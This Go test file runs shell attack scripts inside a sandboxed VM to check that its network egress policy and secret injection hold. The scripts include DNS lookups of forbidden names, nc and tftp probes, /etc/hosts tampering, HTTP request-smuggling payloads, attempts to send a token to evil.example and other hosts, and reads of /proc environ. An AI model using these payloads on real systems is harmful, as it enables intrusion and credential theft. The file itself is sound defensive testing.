//go:build vmtest

package main

import (
	"slices"
	"strings"
	"testing"
)

// One API is open, with a secret; one other host is, without; nothing else.
const closedPolicy = `
[[egress.allow]]
name = "api"
hosts = ["good.example"]
protocol = "https"
methods = ["GET", "POST"]
[[egress.allow]]
name = "api in clear"
hosts = ["good.example"]
protocol = "http"
[[egress.allow]]
name = "another"
hosts = ["other.example", "turns.example"]
protocol = "https"
methods = ["GET", "POST"]
[[egress.allow]]
name = "a ping"
cidrs = ["93.184.215.14/32"]
protocol = "icmp"
[[tls.extra_ca]]
file = "CA"
hosts = ["good.example", "other.example", "turns.example"]
[dns]
servers = ["udp://127.0.0.1:53"]
[secrets.TOKEN]
from = "env:VM_TEST_TOKEN"
hosts = ["good.example"]
in = ["header:Authorization"]
[hosts]
"echo.msb.internal" = "builtin:echo"
`

const (
	goodTLS  = "93.184.215.14:443"
	goodWeb  = "93.184.215.14:80"
	otherTLS = "93.184.215.15:443"
	stolen   = "the-real-value-that-is-worth-stealing-4711"
)

func TestI9_VMAttacksOnNamesAndSecrets(t *testing.T) {
	t.Setenv("VM_TEST_TOKEN", stolen)
	i := newIsland(t)
	i.zone["good.example"] = []string{"93.184.215.14"}
	i.zone["other.example"] = []string{"93.184.215.15"}
	i.zone["evil.example"] = []string{"93.184.215.16"}
	i.zone["turns.example"] = []string{"93.184.215.17", "10.77.0.2", "127.0.0.1"}
	a := i.guest(closedPolicy)
	a.sh("true")
	i.seen()
	control := attack{
		name: "TheRightRequestGetsTheValue", may: []string{goodTLS},
		script: `msb-tour get -H "Authorization: Bearer $TOKEN" https://good.example/control && env`,
		outside: func(t *testing.T, s *sight, out string) {
			if len(s.requests) != 1 || !strings.Contains(s.requests[0].text, "Bearer "+stolen) {
				t.Fatalf("no attack below shows anything: %+v arrived, the guest says %s", s.requests, out)
			}
			if strings.Contains(out, stolen) || !strings.Contains(out, "served GET /control") {
				t.Errorf("want the echo of the request without the value: %s", out)
			}
		},
	}
	i.run(a, slices.Concat([]attack{control}, nameAttacks(), requestAttacks(), secretAttacks(), []attack{control}))
	a.leave()
	s := i.seen()
	if bad := i.trespass(&s); len(bad) > 0 {
		t.Errorf("seen while it ended: %v", bad)
	}
}

// nothingAsked fails when the resolver was asked for a name that no rule allows.
func nothingAsked(t *testing.T, s *sight, _ string) {
	for _, name := range s.asked {
		if !slices.Contains([]string{"good.example", "other.example", "turns.example"}, name) {
			t.Errorf("the resolver was asked for %s", name)
		}
	}
	if len(s.requests) > 0 {
		t.Errorf("%+v arrived", s.requests)
	}
}

func nameAttacks() []attack {
	return []attack{
		{name: "I6_NamesThatNoRuleAllows", outside: nothingAsked, script: `for n in evil.example sub.good.example good.example.evil.example stolen-bytes.evil.example localhost metadata.google.internal wpad; do
			nslookup $n >/dev/null 2>&1 && echo "REACHED $n"; nslookup -type=txt $n >/dev/null 2>&1 && echo "REACHED $n"; done; true`},
		{name: "I6_OtherResolvers", outside: nothingAsked, script: `for r in 8.8.8.8 1.1.1.1 10.77.0.1 10.77.0.2 127.0.0.53 169.254.169.253 224.0.0.251 fd77::1; do timeout 1 nslookup evil.example $r | grep 93.184 && echo "REACHED $r"; done
			for p in 853 5353 5355 443; do for r in 8.8.8.8 10.77.0.1; do nc -w 2 $r $p </dev/null && echo "REACHED $r:$p"; tftp -g -r x $r $p >/dev/null 2>&1 & sleep 0.2; kill $! 2>/dev/null; done; done; true`},
		{name: "I6_ANameThatTurnsInward", may: []string{"93.184.215.17:443"},
			script: `msb-tour get https://turns.example/first >/dev/null && echo first; for n in 1 2 3; do msb-tour get https://turns.example/second; done; true`,
			outside: func(t *testing.T, s *sight, out string) {
				if !strings.Contains(out, "first") {
					t.Errorf("the name did not lead anywhere at first: %s", out)
				}
			}},
		{name: "I6_AddressesWithoutAName", outside: nothingAsked, script: `for to in 93.184.215.14:22 93.184.215.14:8443 93.184.215.16:80 93.184.215.16:443 45.33.32.156:80; do nc -w 3 ${to%:*} ${to#*:} </dev/null && echo "REACHED $to"; done; true`},
		{name: "I1_PingsAndDatagramsElsewhere", outside: nothingAsked, script: `for a in 93.184.215.15 8.8.8.8 10.77.0.2 fd77::1; do ping -c 1 -W 1 $a | grep 'bytes from' && echo "REACHED $a"; done
			ping -c 1 -W 1 -s 20000 8.8.8.8 | grep 'bytes from' && echo REACHED
			for p in 123 443 514 9999; do tftp -g -r x 93.184.215.14 $p >/dev/null 2>&1 & sleep 0.2; kill $! 2>/dev/null; done; traceroute -n -m 3 -q 1 -w 1 93.184.215.14; true`},
		{name: "I7_AnotherNameInTheHello", outside: nothingAsked, script: `cp /etc/hosts /tmp/hosts
			echo '93.184.215.14 evil.example other.example' >> /etc/hosts; for n in evil.example other.example; do msb-tour get https://$n/sni && echo "REACHED $n"; done
			cp /tmp/hosts /etc/hosts; echo '93.184.215.16 good.example' >> /etc/hosts; msb-tour get https://good.example/elsewhere && echo REACHED
			cp /tmp/hosts /etc/hosts; msb-tour get https://93.184.215.14/no-name && echo REACHED; true`},
	}
}

// forHostOnly fails when a request for another name arrived, or one at another address.
func forHostOnly(t *testing.T, s *sight, _ string) {
	for _, r := range s.requests {
		if r.host != "good.example" || r.at != goodWeb && r.at != goodTLS {
			t.Errorf("at %s arrived a request for %s", r.at, r.host)
		}
		if strings.Contains(r.text, "/smuggled") {
			t.Errorf("a hidden request arrived: %q", r.text)
		}
	}
}

func requestAttacks() []attack {
	const raw = `raw() { printf "$1" | timeout 5 nc -w 3 93.184.215.14 80 | head -1; }
nslookup good.example >/dev/null 2>&1
`
	return []attack{
		{name: "I7_AnotherHostInTheRequest", may: []string{goodTLS, goodWeb}, outside: forHostOnly,
			script: raw + `for h in evil.example good.example.evil.example 127.0.0.1 169.254.169.254 localhost; do
				raw "GET /host HTTP/1.1\r\nHost: $h\r\nConnection: close\r\n\r\n"; raw "GET http://$h/absolute HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"
				raw "GET /two HTTP/1.1\r\nHost: good.example\r\nHost: $h\r\nConnection: close\r\n\r\n"; msb-tour get -H "Host: $h" https://good.example/tls && echo "REACHED $h"; done
				raw "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"; true`},
		{name: "I9_RequestsInsideOfRequests", may: []string{goodWeb}, outside: forHostOnly,
			script: raw + `s='GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n'
				raw "POST /cl-te HTTP/1.1\r\nHost: good.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$s"
				raw "POST /te-odd HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n$s"
				raw "POST /two-lengths HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n$s"
				raw "POST /plus HTTP/1.1\r\nHost: good.example\r\nContent-Length: +0\r\n\r\n$s"
				raw "GET /bare-lf HTTP/1.1\nHost: good.example\nX: y\n\n$s"
				raw "GET /obs-fold HTTP/1.1\r\nHost: good.example\r\nX: a\r\n Host: evil.example\r\n\r\n$s"
				raw "GET /space HTTP/1.1\r\nHost : evil.example\r\nHost: good.example\r\n\r\n$s"
				raw "GET /kept HTTP/1.1\r\nHost: good.example\r\n\r\n$s"; true`},
		{name: "I7_MethodsThatTheRuleDoesNotHave", may: []string{goodTLS},
			outside: func(t *testing.T, s *sight, _ string) {
				for _, r := range s.requests {
					if !strings.HasPrefix(r.text, "GET ") && !strings.HasPrefix(r.text, "POST ") || strings.Contains(r.text, "DELETE") {
						t.Errorf("%q arrived", r.text)
					}
				}
			},
			script: `for m in DELETE PUT TRACE PROPFIND; do msb-tour get -X $m https://good.example/method && echo "REACHED $m"; done
				msb-tour get -H 'X-HTTP-Method-Override: DELETE' https://good.example/override && echo REACHED; true`},
	}
}

// withoutValue fails when the secret's value arrived anywhere.
func withoutValue(t *testing.T, s *sight, out string) {
	for _, r := range s.requests {
		if strings.Contains(r.text, stolen) {
			t.Errorf("the value arrived at %s: %q", r.at, r.text)
		}
	}
	if strings.Contains(out, stolen) {
		t.Errorf("the guest saw the value: %s", out)
	}
}

func secretAttacks() []attack {
	return []attack{
		{name: "I9_APlaceholderForAnotherHost", may: []string{otherTLS}, outside: withoutValue,
			script: `for h in other.example echo.msb.internal; do msb-tour get -H "Authorization: Bearer $TOKEN" https://$h/; msb-tour get -H "X-Forwarded-Host: good.example" -H "Authorization: Bearer $TOKEN" https://$h/; done; true`},
		{name: "I9_APlaceholderInClear", may: []string{goodWeb}, outside: withoutValue,
			script: `msb-tour get -H "Authorization: Bearer $TOKEN" http://good.example/; wget -q -O - --header "Authorization: Bearer $TOKEN" http://93.184.215.14/; true`},
		{name: "I9_APlaceholderInAnotherPlace", may: []string{goodTLS}, outside: withoutValue,
			script: `u=https://good.example; get() { msb-tour get "$@"; }
				get "$u/?q=$TOKEN"; get "$u/$TOKEN"; for h in Cookie Referer User-Agent X-Token Proxy-Authorization; do get -H "$h: $TOKEN" $u/; done; get -H "X-$TOKEN: y" $u/
				echo "{\"t\": \"$TOKEN\"}" > /tmp/body; get -X POST -T /tmp/body $u/body; printf %s "$TOKEN" | base64 > /tmp/body; get -X POST -T /tmp/body $u/base64
				get -H "Authorization: Basic $(printf "u:$TOKEN" | base64)" $u/basic; get -H "Authorization: Bearer $(echo $TOKEN | tr a-z A-Z)" $u/upper; get -H "X-T: $(printf %s "$TOKEN" | base64)" $u/b64; true`},
		{name: "I8_TheValueIsNowhereInTheGuest", outside: withoutValue,
			script: `env; cat /proc/[0-9]*/environ /proc/cmdline 2>/dev/null | tr '\0' '\n'; dmesg | grep -i token; cat /run/* /tmp/* 2>/dev/null; true`},
	}
}
